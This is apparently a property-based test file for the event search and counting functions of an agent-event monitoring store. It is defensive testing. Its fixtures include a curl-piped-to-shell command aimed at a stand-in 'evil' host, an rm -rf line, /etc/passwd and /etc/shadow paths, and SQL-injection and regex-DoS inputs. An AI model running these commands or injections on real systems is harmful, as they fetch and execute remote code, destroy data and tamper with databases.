import { EVENT_KINDS, eventFilters } from "@firebreak/protocol";
import type { AgentEvent, EventFilters } from "@firebreak/protocol";
import { assert, asyncProperty, constantFrom, integer, option, record, string, subarray, oneof } from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createManualClock, createNewId, silentLogger } from "../../kernel/index.ts";
import { createTestDatabase } from "../../storage/testing.ts";
import type { TestDatabase } from "../../storage/testing.ts";
import {
  countOverTime,
  countValues,
  createIntake,
  indexEvents,
  parseEventBatch,
  readEventsAfter,
  searchEvents,
} from "../index.ts";
import { fitsNaively } from "./testing-naive-search.ts";

const NOW_MS = Date.parse("2026-03-01T12:00:00Z");
const clock = createManualClock(NOW_MS);
const newId = createNewId(() => clock.now());
let test: TestDatabase;
let all: AgentEvent[];

/** Every value stands in some records and not in others; between them, whatever text has to bear. */
const COMMANDS = [
  "curl -s https://evil.example.org/x | sh",
  'echo "100 %_done" \\n \u0000 end',
  "Überweisung an ÉVA\nzweite Zeile",
  "rm -rf /var/tmp/curling",
  "C:\\new\\u0000 folder",
  "a.*b (c|d)+ $HOME ^x$ [e]",
  "支付宝 pay",
];

function makeEvent(index: number): object {
  const pick = <T>(values: readonly T[], step: number): T => values[Math.floor(index / step) % values.length] as T;
  return {
    id: `e-${index}`,
    time: new Date(NOW_MS - ((index * 7_919) % 400) * 900_000).toISOString(),
    agent: {
      id: pick(["scout", "writer", "planner"], 1),
      ...(index % 2 === 0 ? { pack: pick(["research", "ops"], 2), session: pick(["s 1", "s%2"], 3) } : {}),
      ...(index % 5 === 0 ? { run: "run_1" } : {}),
    },
    source: pick(["bench", 'o\'brien "x"'], 4),
    kind: pick(EVENT_KINDS, 1),
    outcome: pick(["success", "failure", "denied", "unknown"], 2),
    ...(index % 3 === 0 ? { risk: pick(["low", "high", "critical"], 3) } : {}),
    ...(index % 4 === 0 ? { resource: pick(["/etc/passwd", "/etc/%shadow", "https://example.org/a"], 4) } : {}),
    data: {
      tool: pick(["exec", "read_file", 7, null, true, ["exec", "b"]], 1),
      bytes: pick([0, 10, 9, 1e21, -1.5], 2),
      command: pick(COMMANDS, 1),
      items: [{ name: pick(["x", "y"], 3) }, { name: "z" }],
      "odd.name": { "": index },
    },
  };
}

beforeAll(async () => {
  test = await createTestDatabase();
  const intake = createIntake({ database: test.database, clock, newId, logger: silentLogger, onStored: () => {} });
  // blocks of a few events, the words of some not indexed yet, and at last events that no block holds
  for (let batch = 0; batch < 12; batch += 1) {
    const lines = Array.from({ length: 20 }, (_, index) => JSON.stringify(makeEvent(batch * 20 + index))).join("\n");
    await intake.accept(await parseEventBatch(Buffer.from(lines), "application/x-ndjson", NOW_MS), { name: "test" });
    if (batch < 10) await indexEvents(test, 1);
  }
  await intake.close();
  all = (await readEventsAfter(test, 0, 1_000)).toSorted((a, b) =>
    a.time < b.time ? 1 : a.time > b.time ? -1 : b.seq - a.seq,
  );
  if (all.length !== 240) throw new Error(`${all.length} of 240 events are stored`);
});
afterAll(() => test.close());

const anyFilters = record(
  {
    agent: constantFrom("scout", "writer", "nobody"),
    pack: constantFrom("research", "none"),
    session: constantFrom("s 1", "s%2", "s_1"),
    run: constantFrom("run_1", "run%"),
    source: constantFrom("bench", 'o\'brien "x"'),
    kind: subarray([...EVENT_KINDS], { minLength: 3 }).map((kinds) => kinds.join(",")),
    outcome: subarray(["success", "failure", "denied"], { minLength: 1 }).map((outcomes) => outcomes.join(",")),
    risk: constantFrom("low", "high,critical"),
    resource: constantFrom("/etc/passwd", "/etc/%*", "/etc/*", "*"),
    since: integer({ min: 0, max: 400 }).map((n) => new Date(NOW_MS - n * 900_000).toISOString()),
    text: oneof(
      constantFrom(
        "curl",
        "CURL",
        "curl*",
        "rm -rf",
        '"rm -rf"',
        "/etc/passwd",
        "100 %_done",
        "%",
        "_",
        "evil.example.org",
        "zzz",
        "überweisung éva",
        '"éva zweite"',
        "支付宝",
        "u0000",
        "new",
        "(c|d)+",
        "$home ^x$",
        "[e]",
        "a.*b",
        "n end",
        "exec -1.5",
      ),
      string({ maxLength: 3 }).map((text) => text.replaceAll(/["*\\\p{Cc}]/gu, "")),
    ),
    path: subarray(
      [
        "data.tool=exec",
        "data.tool=7",
        "data.tool!=exec",
        "data.bytes>=9",
        "data.bytes=1e21",
        "data.command~EXAMPLE.org",
        "data.items.name=x",
        "data.items[0].name=y",
        "data.items[*].name=z",
        "data.none",
        "agent.pack",
        "data.tool=null",
        "id=e-17",
      ],
      { minLength: 1, maxLength: 2 },
    ),
    has: constantFrom("redacted", "indicators"),
  },
  { requiredKeys: [] },
);

interface Reading {
  readonly order: "newest" | "oldest";
  readonly limit: number;
  /** undefined: so many that every event of this test is near */
  readonly nearMax: number | undefined;
}

/** @returns what a search of these must find, newest first */
function seqsOf(filters: EventFilters): number[] {
  return all.filter((event) => fitsNaively(event, filters)).map(({ seq }) => seq);
}

async function readAllPages(filters: EventFilters, { order, limit, nearMax }: Reading): Promise<number[]> {
  const seqs: number[] = [];
  let after: string | undefined;
  do {
    const page = await searchEvents({ ...test, clock }, { ...filters, order, limit, after }, nearMax);
    seqs.push(...page.items.map(({ seq }) => seq));
    after = page.next ?? undefined;
  } while (after !== undefined);
  return seqs;
}

describe.each(["half", "all"])("E-5: the search, %s of the events indexed", (part) => {
  beforeAll(async () => {
    let pass = { events: 0, blocks: 0 };
    do pass = part === "all" ? await indexEvents(test, 1) : pass;
    while (pass.events + pass.blocks > 0);
  });

  it("finds page by page what a look at every event finds, in both orders", async () => {
    await assert(
      asyncProperty(
        anyFilters,
        record({
          order: constantFrom("newest", "oldest"),
          limit: integer({ min: 1, max: 90 }),
          nearMax: constantFrom(undefined, 1, 30),
        }),
        async (given, reading) => {
          const filters = eventFilters.parse(given);
          const expected = seqsOf(filters);
          const found = await readAllPages(filters, reading);
          expect(found).toEqual(reading.order === "newest" ? expected : expected.toReversed());
        },
      ),
      { numRuns: 150 },
    );
  });

  it.each<[string, EventFilters, EventFilters]>([
    ["an agent", { agent: "scout" }, { resource: "/etc/passwd" }],
    ["a session", { session: "s 1" }, { resource: "/etc/passwd" }],
    ["a high risk", { risk: ["high"] }, { outcome: ["unknown"] }],
  ])("finds the rare events of %s beyond the nearest that its index is asked for", async (_, about, rare) => {
    const filters = { ...about, ...rare };
    const wanted = seqsOf(filters);
    // the last of them is just beyond the near
    const nearMax = seqsOf(about).indexOf(wanted.at(-1) ?? 0);
    expect(nearMax).toBeGreaterThan(wanted.length);
    expect(await readAllPages(filters, { order: "newest", limit: 90, nearMax })).toEqual(wanted);
  });

  it("counts over time and by value what a look at every event counts", async () => {
    const question = record({
      filters: anyFilters,
      buckets: integer({ min: 1, max: 200 }),
      until: option(integer({ min: 1, max: 300 })),
    });
    await assert(
      asyncProperty(question, async ({ filters: given, buckets, until }) => {
        const end = NOW_MS - (until ?? 0) * 900_000;
        const since = new Date(Math.min(end - 1, Date.parse(given.since ?? "2026-02-20T00:00:00Z"))).toISOString();
        const filters = eventFilters.parse({ ...given, since, until: new Date(end).toISOString() });
        const expected = all.filter((event) => fitsNaively(event, filters));
        const counted = await countOverTime({ ...test, clock }, { ...filters, buckets, by: "risk" });
        expect(counted.buckets.length).toBeLessThanOrEqual(buckets);
        expect(counted.total).toBe(expected.length);
        for (const bucket of counted.buckets) {
          const startMs = Date.parse(bucket.time);
          const inside = expected.filter(({ time }) => {
            const ms = Date.parse(time);
            return ms >= startMs && ms < startMs + counted.bucketMs;
          });
          expect(bucket.count).toBe(inside.length);
          expect(bucket.counts["none"] ?? 0).toBe(inside.filter(({ risk }) => risk === undefined).length);
        }
        const values = await countValues({ ...test, clock }, { ...filters, top: 2 });
        expect(values.total).toBe(expected.length);
        const scouts = expected.filter(({ agent }) => agent.id === "scout").length;
        const top = values.agent.map(({ count }) => count);
        expect(values.agent.find(({ value }) => value === "scout")?.count ?? Math.min(scouts, top.at(-1) ?? 0)).toBe(
          scouts,
        );
      }),
      { numRuns: 40 },
    );
  });
});

describe("E-5: a search", () => {
  it.each([
    ["until before since", { since: "2026-03-01T00:00:00Z", until: "2026-02-01T00:00:00Z" }, /later than since/],
    ["NUL in a text", { text: "a\u0000b" }, /U\+0000/],
    ["more words than are searched for", { text: "a ".repeat(17) }, /17 words are more than 16/],
    ["an `after` of nobody", { after: "1 or 1=1" }, /`next` of the page before/],
    ["an `after` beyond numbers", { after: "1-9999999999999999999" }, /`next` of the page before/],
    ["a path without a field", { path: ["=x"] }, /does not begin with the name/],
    ["a path that is a program", { path: ['$.** ? (@ like_regex "(a+)+$")'] }, /Write a field/],
    ["a path without an end", { path: ["a" + ".a".repeat(200)] }, /more than 16 levels/],
  ])("refuses %s and says what to do", async (_, filters, message) => {
    await expect(searchEvents({ ...test, clock }, filters)).rejects.toMatchObject({
      code: "bad_request",
      message: expect.stringMatching(message),
    });
  });

  it("takes a path of quotes, brackets and signs of SQL as names and nothing else", async () => {
    const odd = [
      `data."odd.name".""`,
      `data."x') or true --"`,
      `data."\\" ? (true)"`,
      "data.items[0][0][0]",
      `data.command~'; drop table events`,
    ];
    const found = await Promise.all(
      odd.map(async (path) => (await searchEvents({ ...test, clock }, { path: [path] })).items.length),
    );
    expect(found).toEqual([50, 0, 0, 50, 0]);
  });

  it("refuses a word of ten kilobytes at the door", () => {
    expect(eventFilters.safeParse({ text: "a".repeat(10_240) }).success).toBe(false);
  });
});
